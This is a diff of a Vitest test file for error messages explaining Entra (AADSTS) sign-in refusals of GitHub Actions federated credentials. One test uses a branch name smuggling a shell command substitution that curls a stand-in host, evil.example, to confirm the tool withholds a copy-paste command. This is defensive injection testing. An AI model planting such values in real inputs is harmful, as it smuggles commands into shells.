@@ -1,24 +1,24 @@
-import { describe, expect, it } from 'vitest';
+import { describe, expect, test } from 'vitest';
 import {
   CLIENT,
+  CONTEXT,
   entraSaid,
-  explainAnswer,
+  explainResponse,
   firstLine,
-  SITUATION,
   TENANT,
-  UNKNOWN,
+  UNKNOWN_CONTEXT,
 } from '../../../support/explain.ts';
 
 const SUPPORT =
   'Trace ID 8335980a-8604-4005-a5e1-f678003d5b01, correlation ID c3a1f4bb-2b8a-4486-ac4a-fdd45ed43116 for support.';
 
 function withSubject(subject: string) {
-  const assertion = { ...SITUATION.assertion!, subject };
-  return { ...SITUATION, assertion };
+  const assertion = { ...CONTEXT.assertion!, subject };
+  return { ...CONTEXT, assertion };
 }
 
-describe('no federated credential matches', () => {
-  it('shows what to paste, and the command that does it', () => {
+describe('a sign-in for which no federated credential matches', () => {
+  test('the message shows what to paste, and the command that does it', () => {
     expect(entraSaid(700213)).toBe(
       [
         `Entra refused the sign-in of application '${CLIENT}' (AADSTS700213): no federated credential matches the ID token that was presented.`,
@@ -37,41 +37,41 @@ describe('no federated credential matches', () => {
     );
   });
 
-  it.each([
+  test.each([
     ['repo:o/r:environment:production', "The job names the environment 'production'"],
     ['repo:o/r:pull_request', "its subject ends in ':pull_request'"],
     ['repo:o/r:ref:refs/tags/v1', "The job runs for the tag 'v1'"],
     ['repo:o/r:job_workflow_ref:o/w/.github/workflows/x.yml@main', 'subject template of its own'],
     ['repo:o@1/r@2:environment:production', 'a credential without them does not match'],
-  ])('explains the subject %s', (subject, told) => {
+  ])('the message explains the subject %s', (subject, told) => {
     expect(entraSaid(700213, withSubject(subject))).toContain(told);
   });
 
-  it('takes what it can from the message when the token is not known', () => {
-    const message = entraSaid(70021, UNKNOWN);
+  test('issuer and subject come from the refusal when the step does not know the ID token', () => {
+    const message = entraSaid(70021, UNKNOWN_CONTEXT);
     expect(message).toContain("  subject: 'repo:fbomb111/parallel:ref:refs/heads/main'");
     expect(message).toContain("  issuer: 'https://token.actions.githubusercontent.com/'");
     expect(message).toContain('--id <client-id> ');
-    expect(entraSaid(700213, UNKNOWN)).not.toContain('az ad app');
+    expect(entraSaid(700213, UNKNOWN_CONTEXT)).not.toContain('az ad app');
   });
 
-  it('offers no command for a branch whose name a shell would obey', () => {
+  test('no command is offered for a branch whose name a shell would obey', () => {
     const message = entraSaid(700213, withSubject("repo:o/r:ref:refs/heads/x'$(curl$IFS-evil.example)"));
     expect(message).not.toContain('az ad app');
     expect(message).toContain('add the credential in the Azure portal');
   });
 
-  it.each([
+  test.each([
     [7002138, 'upper and lower case only'],
     [700211, "none of its federated credentials has the ID token's issuer"],
     [700212, "none of its federated credentials has the ID token's audience"],
-  ])('AADSTS%i: says in what', (code, reason) => {
+  ])('the first line for AADSTS%i says what does not match', (code, reason) => {
     expect(firstLine(entraSaid(code))).toContain(reason);
   });
 });
 
-describe('Entra refuses', () => {
-  it.each([
+describe('a refusal of Entra', () => {
+  test.each([
     [
       700016,
       `tenant '${TENANT}' has no application with client ID '${CLIENT}'.`,
@@ -92,7 +92,7 @@ describe('Entra refuses', () => {
       `tenant '${TENANT}' has no service 'https://xxx.azure-devices-provisioning.net'.`,
       "'cloud' (now 'AzureCloud')",
     ],
-  ])('AADSTS%i', (code, reason, advice) => {
+  ])('AADSTS%i is explained with its reason, advice and the IDs for support', (code, reason, advice) => {
     const message = entraSaid(code);
     expect(firstLine(message)).toBe(`Entra refused the sign-in (AADSTS${code}): ${reason}`);
     expect(message).toContain(advice);
@@ -100,17 +100,17 @@ describe('Entra refuses', () => {
     expect(message).not.toContain('Timestamp');
   });
 
-  it('names the tenant out of the message when no input does', () => {
-    expect(firstLine(entraSaid(900023, UNKNOWN))).toContain("has no tenant 'authorize'");
+  test('the tenant comes from the refusal when no input names it', () => {
+    expect(firstLine(entraSaid(900023, UNKNOWN_CONTEXT))).toContain("has no tenant 'authorize'");
   });
 
-  it('tells a stale token file from a wrong clock', () => {
-    expect(entraSaid(700024, { ...SITUATION, login: 'workload-identity' })).toContain(
+  test('a stale token file is told apart from a wrong clock', () => {
+    expect(entraSaid(700024, { ...CONTEXT, signInMethod: 'workload-identity' })).toContain(
       'AZURE_FEDERATED_TOKEN_FILE',
     );
   });
 
-  it('with a code of no row: quotes the first sentence and where the code is explained', () => {
+  test('a code without a row is quoted, with a link to its explanation', () => {
     expect(entraSaid(50107)).toBe(
       [
         "Entra refused the sign-in (AADSTS50107): Requested federation realm object 'https://sts.windows.net/xxxxxxxxxxxxxx' does not exist.",
@@ -120,16 +120,16 @@ describe('Entra refuses', () => {
     );
   });
 
-  it('without a code: quotes what there is', () => {
-    expect(firstLine(explainAnswer('sign-in', 503, 'Service Unavailable'))).toBe(
+  test('a refusal without a code is quoted', () => {
+    expect(firstLine(explainResponse('sign-in', 503, 'Service Unavailable'))).toBe(
       'Entra (login.microsoftonline.com) answered the sign-in with HTTP 503: Service Unavailable',
     );
   });
 
-  it.each([700016, 700024, 700213, 70021, 700212, 7000215, 7000222, 90002, 900023, 53003, 500011, 50107])(
-    'AADSTS%i reads well when nothing is known',
+  test.each([700016, 700024, 700213, 70021, 700212, 7000215, 7000222, 90002, 900023, 53003, 500011, 50107])(
+    'the message for AADSTS%i has no gaps when nothing is known',
     (code) => {
-      expect(entraSaid(code, UNKNOWN)).not.toMatch(/undefined|''| {2}\./);
+      expect(entraSaid(code, UNKNOWN_CONTEXT)).not.toMatch(/undefined|''| {2}\./);
     },
   );
 });
